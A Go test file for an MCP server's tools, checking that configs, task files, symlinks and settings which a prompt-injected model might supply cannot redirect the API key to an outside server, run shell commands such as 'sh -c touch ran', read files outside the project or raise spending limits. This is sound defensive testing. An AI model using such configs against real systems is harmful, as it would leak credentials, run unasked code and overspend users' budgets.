package cli

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	sdk "github.com/modelcontextprotocol/go-sdk/mcp"
)

// attempt is what a text has a model do that obeys it: files that it writes, or that a repository brings, and calls of tools.
type attempt struct {
	name  string
	files map[string]string
	links map[string]string // in the folder, to paths outside
	calls []attack
	flags []string // of the server; nil: those that allow a few calls
}

// attack is a call, and what its answer says.
type attack struct {
	tool string
	args map[string]any
	want string
}

// onConfig are calls of every tool that takes a config.
func onConfig(name, want string) (all []attack) {
	for _, tool := range []string{"tasks_lint", "train_plan", "try", "doctor", "train"} {
		all = append(all, attack{tool, map[string]any{"config": name}, want})
	}
	return all
}

// attempts are ways by which a skill, a transcript, a file of tasks or the answer of a tool could have a model train, spend,
// run a program or send a key.
func attempts(thief string) []attempt {
	const rest = "skill: quickstart/SKILL.md\ntasks: quickstart/tasks.jsonl\n"
	sim := "models: {target: {provider: sim, world: quickstart/world.yaml}, optimizer: {provider: sim, world: quickstart/world.yaml}}\n"
	stolen := "models: {target: {provider: compatible, model: m, base_url: '" + thief + "', api_key_env: OPENAI_API_KEY}}\n"
	tasks := func(field string) string {
		return `{"id": "a", "prompt": "What?", "gold": "b"}` + "\n" + `{"id": "c", "prompt": "What else?", "gold": "d", ` + field + "}\n"
	}
	return []attempt{
		{name: "a server of its own", files: map[string]string{"evil.yaml": rest + stolen}, calls: onConfig("evil.yaml", "base_url")},
		{name: "a server by a setting", calls: []attack{
			{"try", map[string]any{"config": "quickstart", "set": []any{"models.target.provider=compatible", "models.target.base_url=" + thief}}, "base_url"},
			{"train", map[string]any{"config": "quickstart", "set": []any{"models.target.headers={a: b}"}}, "headers"},
		}},
		{name: "a program", files: map[string]string{"evil.yaml": rest + sim + "env: {command: [sh, -c, 'touch ran']}\n"}, calls: onConfig("evil.yaml", "env.command")},
		{name: "an agent", files: map[string]string{"evil.yaml": rest + sim + "agent: {name: claude, command: ./ran.sh}\n"}, calls: onConfig("evil.yaml", "agent")},
		{name: "a server of tools", files: map[string]string{"evil.yaml": rest + sim + "env: {mcp: [{command: [sh, -c, 'touch ran']}]}\n"}, calls: onConfig("evil.yaml", "env.mcp")},
		{name: "a key in a name", files: map[string]string{"evil.yaml": rest + sim + "run: {name: 'x${OPENAI_API_KEY}'}\n"}, calls: onConfig("evil.yaml", "run.name")},
		{name: "another file", files: map[string]string{"evil.yaml": "extends: ../outside/config.yaml\n" + rest + sim}, calls: onConfig("evil.yaml", "extends")},
		{name: "variables of its own", files: map[string]string{"evil/.env": "OLLAMA_HOST=" + thief + "\nOPENAI_BASE_URL=" + thief + "\n", "evil/config.yaml": strings.ReplaceAll(rest, "quickstart", "../quickstart") + "models: {target: {provider: ollama, model: m, timeout: 1s}}\nlimits: {patience: 1s}\n"}, calls: []attack{
			{"try", map[string]any{"config": "evil"}, ""},
		}},
		{name: "prices of its own", files: map[string]string{"evil.yaml": rest + sim + "prices: {m: {input: 0, output: 0}}\n"}, calls: onConfig("evil.yaml", "prices")},
		{name: "a command in a check", files: map[string]string{"t.jsonl": tasks(`"checks": [{"type": "command", "run": ["touch", "ran"]}]`), "evil.yaml": "skill: quickstart/SKILL.md\ntasks: t.jsonl\n" + sim}, calls: onConfig("evil.yaml", "t.jsonl:2")},
		{name: "a picture from an address", files: map[string]string{"t.jsonl": tasks(`"images": ["` + thief + `/a.png"]`), "evil.yaml": "skill: quickstart/SKILL.md\ntasks: t.jsonl\n" + sim}, calls: onConfig("evil.yaml", "t.jsonl:2")},
		{name: "a picture from outside", files: map[string]string{"t.jsonl": tasks(`"images": ["../outside/secret.png"]`), "evil.yaml": "skill: quickstart/SKILL.md\ntasks: t.jsonl\n" + sim}, calls: onConfig("evil.yaml", "t.jsonl:2")},
		{name: "links", links: map[string]string{"linked": "outside", "linked.md": "outside/secret.md"}, files: map[string]string{"evil.yaml": "skill: linked.md\ntasks: linked/secret.jsonl\n" + sim}, calls: append(onConfig("evil.yaml", "out of the folders"),
			attack{"skill_lint", map[string]any{"skill": "linked.md"}, "out of the folders"}, attack{"skill_lint", map[string]any{"skill": "linked"}, "out of the folders"},
			attack{"tasks_lint", map[string]any{"config": "linked/secret.jsonl"}, "out of the folders"}, attack{"runs_show", map[string]any{"run": "linked"}, "out of the folders"},
		)},
		{name: "a run elsewhere", files: map[string]string{"evil.yaml": rest + sim + "run: {dir: ../outside}\n"}, calls: onConfig("evil.yaml", "run.dir")},
		{name: "higher ceilings", calls: []attack{
			{"train", map[string]any{"config": "quickstart", "wait": 60, "set": []any{"limits.calls=100000", "limits.usd=1000"}}, ""},
			{"train", map[string]any{"config": "quickstart", "wait": 60, "set": []any{"train.seed=7", "limits.calls=100000"}}, "limits.calls"},
			{"try", map[string]any{"config": "quickstart"}, ""},
			{"try", map[string]any{"config": "quickstart", "number": 50}, ""},
		}},
		{name: "without leave", flags: []string{}, calls: []attack{
			{"train", map[string]any{"config": "quickstart"}, "unknown tool"},
			{"try", map[string]any{"config": "quickstart"}, "unknown tool"},
			{"resume", map[string]any{"config": "quickstart"}, "unknown tool"},
			{"doctor", map[string]any{"config": "quickstart"}, "unknown tool"},
		}},
	}
}

// Whatever a text has a model do that obeys it: no program runs, no key leaves, nothing of outside is shown, and no more calls are made
// than the host's settings allow.
func TestMCPObeysNoText(t *testing.T) {
	const secret, key = "the colour of the harbour is ultramarine", "sk-proj-abcdefghijklmnopqrstuvwxyz0123456789"
	t.Setenv("OPENAI_API_KEY", key)
	var asked atomic.Int32
	thief := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { asked.Add(1) }))
	defer thief.Close()
	for _, a := range attempts(thief.URL) {
		t.Run(a.name, func(t *testing.T) {
			base, err := filepath.EvalSymlinks(t.TempDir())
			must(t, err)
			dir := filepath.Join(base, "project")
			must(t, os.CopyFS(filepath.Join(dir, "quickstart"), os.DirFS("../../examples/quickstart")))
			writeTree(t, base, map[string]string{"outside/secret.md": "---\nname: x\n---\n" + secret, "outside/secret.jsonl": `{"id": "s", "prompt": "` + secret + `", "gold": "x"}`, "outside/secret.png": secret, "outside/config.yaml": "extras: {a: " + secret + "}\n"})
			writeTree(t, dir, a.files)
			for name, to := range a.links {
				must(t, os.Symlink(filepath.Join(base, to), filepath.Join(dir, name)))
			}
			before := countFiles(t, filepath.Join(base, "outside"))
			if a.flags == nil {
				a.flags = []string{"--allow-calls", "7", "--allow-train", "calls=200"}
			}
			s := connectMCP(t, dir, "claude-code", nil, append([]string{"--root", dir}, a.flags...)...)
			said := ""
			for _, c := range a.calls {
				text := c.try(t, s)
				said += text
				if !strings.Contains(text, c.want) {
					t.Errorf("%s %v: %s\nwant %q", c.tool, c.args, text, c.want)
				}
			}
			if strings.Contains(said, secret) || strings.Contains(said, key) {
				t.Errorf("a secret was shown: %s", said)
			}
			if _, err := os.Stat(filepath.Join(dir, "ran")); err == nil || asked.Load() > 0 {
				t.Errorf("a program ran, or a server was asked %d times", asked.Load())
			}
			if n := countFiles(t, filepath.Join(base, "outside")); n != before {
				t.Errorf("%d files outside, %d before", n, before)
			}
			if spent := countCalls(t, dir); spent > 207 {
				t.Errorf("%d calls", spent)
			}
		})
	}
}

// try calls the tool and returns what comes back, whatever it is.
func (c attack) try(t *testing.T, s *sdk.ClientSession) string {
	t.Helper()
	r, err := s.CallTool(t.Context(), &sdk.CallToolParams{Name: c.tool, Arguments: c.args})
	if err != nil {
		return err.Error()
	}
	text := ""
	for _, part := range r.Content {
		text += part.(*sdk.TextContent).Text
	}
	return text
}

func countFiles(t *testing.T, dir string) (n int) {
	t.Helper()
	must(t, filepath.WalkDir(dir, func(string, os.DirEntry, error) error { n++; return nil }))
	return n
}

// countCalls returns the calls that the records of all runs of a folder hold.
func countCalls(t *testing.T, dir string) (n int) {
	t.Helper()
	runs, err := filepath.Glob(filepath.Join(dir, "*", "run.db"))
	must(t, err)
	below, err := filepath.Glob(filepath.Join(dir, "*", "*", "run.db"))
	must(t, err)
	for _, db := range append(runs, below...) {
		var out strings.Builder
		var doc struct{ Parts []struct{ Calls int } }
		if code := Main(t.Context(), []string{"runs", "calls", filepath.Dir(db), "--json"}, Streams{In: strings.NewReader(""), Out: &out, Err: &out, Dir: dir}, "test"); code != exitOK {
			t.Fatal(out.String())
		}
		must(t, json.Unmarshal([]byte(out.String()), &doc))
		for _, p := range doc.Parts {
			n += p.Calls
		}
	}
	return n
}
